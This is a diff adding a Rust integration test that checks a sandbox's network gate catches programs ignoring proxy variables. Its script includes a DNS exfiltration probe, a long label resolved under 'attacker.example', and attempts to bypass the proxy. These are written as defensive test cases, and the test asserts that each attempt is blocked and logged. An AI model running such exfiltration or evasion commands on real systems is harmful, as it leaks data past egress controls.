@@ -191,3 +191,75 @@ curl -s --max-time 5 --noproxy '*' http://127.0.0.1:{p}/direct; echo "direct=$?"
     assert!(!log.contains("REAL_TOKEN_c0ffee"));
     assert!(log.contains("placeholder"), "the leak is alerted: {log}");
 }
+
+#[test]
+fn programs_that_ignore_the_proxy_variables_are_caught_at_the_gate() {
+    let up = upstream();
+    let w = World::new();
+    w.write(
+        "project/blastwall.toml",
+        &format!(
+            r#"version = 1
+[[network.rule]]
+host = "api.example.test"
+ports = [80]
+methods = ["GET"]
+verdict = "allow"
+[[network.rule]]
+host = "api.example.test"
+ports = [443]
+methods = ["GET"]
+paths = ["/secret/*"]
+verdict = "deny"
+reason = "no secrets over the transparent path"
+[network.resolve]
+"api.example.test:80" = "127.0.0.1:{p}"
+{accept}"#,
+            p = up.port,
+            accept = super::accept_missing_here(&w),
+        ),
+    );
+    w.run(&["trust"]).expect(0);
+    if rustix::process::geteuid().is_root() {
+        std::os::unix::fs::chown(w.project(), Some(65534), Some(65534)).unwrap();
+    }
+    if !curl_available(&w) {
+        return;
+    }
+    let p = up.port;
+    let script = format!(
+        r#"unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy
+echo "plain=$(curl -s http://api.example.test/plain)"
+echo "python=$(python3 -c 'import urllib.request; print(urllib.request.urlopen("http://api.example.test/python").read().decode().strip())')"
+echo "tls=$(curl -s https://api.example.test/secret/x | head -1)"
+echo "tls-rc=$?"
+echo "post=$(curl -s -X POST --data x http://api.example.test/write | head -1)"
+python3 -c 'import socket; print("dns", socket.gethostbyname("q" * 60 + ".attacker.example"))'
+curl -s --max-time 5 http://api.example.test:{p}/other-port; echo "other-port-rc=$?"
+"#
+    );
+    let out = w
+        .command(&w.project(), &["run", "--", "sh", "-c", &script])
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
+    let seen = up.seen.lock().unwrap().join("\n----\n");
+    // Allowed plain HTTP went through the gate to the upstream.
+    assert!(stdout.contains("plain=you sent"), "{stdout}");
+    assert!(stdout.contains("python=you sent"), "{stdout}");
+    assert!(seen.contains("GET /plain"), "{seen}");
+    assert!(seen.contains("GET /python"), "{seen}");
+    // TLS straight to 443 was intercepted with the session CA and decided.
+    assert!(stdout.contains("tls=blastwall: denied"), "{stdout}");
+    // Undeclared method: the default deny, and the upstream never saw it.
+    assert!(stdout.contains("post=blastwall: denied"), "{stdout}");
+    assert!(!seen.contains("/write"), "{seen}");
+    assert!(!seen.contains("/secret"), "{seen}");
+    // Names resolve inside, to the wall; other ports lead nowhere.
+    assert!(stdout.contains("dns 127.0.0.1"), "{stdout}");
+    assert!(!stdout.contains("other-port-rc=0"), "{stdout}");
+    assert!(!seen.contains("/other-port"), "{seen}");
+    let log = w.run(&["log", "--json"]).expect(0).stdout();
+    assert!(log.contains("dns-exfiltration"), "{log}");
+    w.run(&["log", "verify"]).expect(0);
+}
